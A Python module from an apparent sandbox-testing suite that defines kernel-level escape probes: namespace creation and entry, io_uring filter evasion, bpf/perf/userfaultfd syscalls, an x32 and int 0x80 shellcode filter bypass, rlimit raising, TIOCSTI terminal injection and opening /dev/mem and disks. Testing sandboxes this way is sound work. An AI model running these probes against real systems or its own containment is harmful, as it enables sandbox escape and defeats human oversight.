"""Attacks on the kernel: doors that an honest program never opens, and through which sandboxes were left before."""

from eco.sandbox.attacks.contract import Attack

CALL = """
import ctypes, os
LIBC = ctypes.CDLL(None, use_errno=True)
def call(numbers, *arguments):
    return LIBC.syscall(numbers[os.uname().machine], *arguments)
"""
"""`call({"x86_64": 1, "aarch64": 2}, ...)`: a system call by its number; below 0 where it was refused."""

ATTACKS = [
    Attack(
        "new user namespace",
        "becomes root in a namespace of its own, from where most flaws of kernels are reached",
        CALL
        + """
def attack(bait):
    for name, flag in [("user", 0x10000000), ("process", 0x20000000), ("network", 0x40000000), ("mount", 0x20000)]:
        if LIBC.unshare(flag) == 0:
            return "a new %s namespace" % name
""",
    ),
    Attack(
        "enter a namespace of others",
        "setns to the namespaces of the victim and of the first process",
        CALL
        + """
def attack(bait):
    for pid in [bait["victim"], 1]:
        for kind in ("net", "mnt", "ipc", "pid"):
            try:
                descriptor = os.open("/proc/%d/ns/%s" % (pid, kind), os.O_RDONLY)
            except OSError:
                continue
            if LIBC.setns(descriptor, 0) == 0:
                return "entered the %s namespace of process %d" % (kind, pid)
""",
        uncontrolled=True,
    ),
    Attack(
        "io_uring",
        "sets up a ring, by which files are opened and sockets made without system calls that a filter sees",
        CALL
        + """
def attack(bait):
    parameters = (ctypes.c_uint8 * 120)()
    if call({"x86_64": 425, "aarch64": 425}, 4, parameters) >= 0:
        return "a ring"
""",
        uncontrolled=True,
    ),
    Attack(
        "bpf, perf, userfaultfd, keyrings",
        "opens the doors through which kernels were taken most often",
        CALL
        + """
def attack(bait):
    zeros = (ctypes.c_uint8 * 128)()
    zeros[0], zeros[4], zeros[8] = 1, 128, 0
    doors = [
        ("bpf", {"x86_64": 321, "aarch64": 280}, (0, (ctypes.c_uint32 * 32)(2, 4, 4, 1), 72)),
        ("perf_event_open", {"x86_64": 298, "aarch64": 241}, (zeros, 0, -1, -1, 0)),
        ("userfaultfd", {"x86_64": 323, "aarch64": 282}, (1,)),
        ("add_key", {"x86_64": 248, "aarch64": 217}, (b"user", b"eco-bait", b"x", 1, -2)),
        ("keyctl", {"x86_64": 250, "aarch64": 219}, (0, -3, 0)),
        ("memfd_secret", {"x86_64": 447, "aarch64": 447}, (0,)),
        ("fanotify_init", {"x86_64": 300, "aarch64": 262}, (0x200, 0)),
    ]
    return ", ".join(name for name, numbers, arguments in doors if call(numbers, *arguments) >= 0)
""",
    ),
    Attack(
        "system calls of another architecture",
        "asks for a socket by int 0x80 and by x32 numbers, which filters that only know x86-64 let through",
        CALL
        + """
import mmap
def attack(bait):
    if os.uname().machine != "x86_64":
        return ""
    if LIBC.syscall(0x40000000 | 41, 2, 1, 0) >= 0:
        return "a socket by the x32 numbers"
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
    code.write(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    if function() >= 0:
        return "a socket by the 32-bit numbers"
""",
        uncontrolled=True,
    ),
    Attack(
        "raise its own limits",
        "lifts the limits of memory and files, then takes 1.2 GB",
        """
import resource
def attack(bait):
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
        try:
            hard = -1 if limit != resource.RLIMIT_NOFILE else 4096
            resource.setrlimit(limit, (hard, hard))
        except (ValueError, OSError):
            pass
    return "%d MB" % (len(bytearray(1200 << 20)) >> 20)
""",
    ),
    Attack(
        "dangerous ioctl",
        "pushes characters into a terminal, and takes over a controlling one",
        """
import fcntl, os
def attack(bait):
    for path in ["/dev/tty", "/dev/console", "/dev/ptmx", "/dev/tty1"]:
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
        try:
            fcntl.ioctl(descriptor, 0x5412, b"\\n")
            return "typed into " + path
        except OSError:
            pass
""",
        uncontrolled=True,
    ),
    Attack(
        "devices",
        "opens memory, disks and the kernel's log",
        """
import os, glob
def attack(bait):
    reached = []
    paths = ["/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/loop-control", "/proc/kcore"]
    for path in paths + glob.glob("/dev/[sv]d?"):
        try:
            os.close(os.open(path, os.O_RDONLY))
            reached.append(path)
        except OSError:
            pass
    return ", ".join(reached)
""",
        uncontrolled=True,
    ),
]
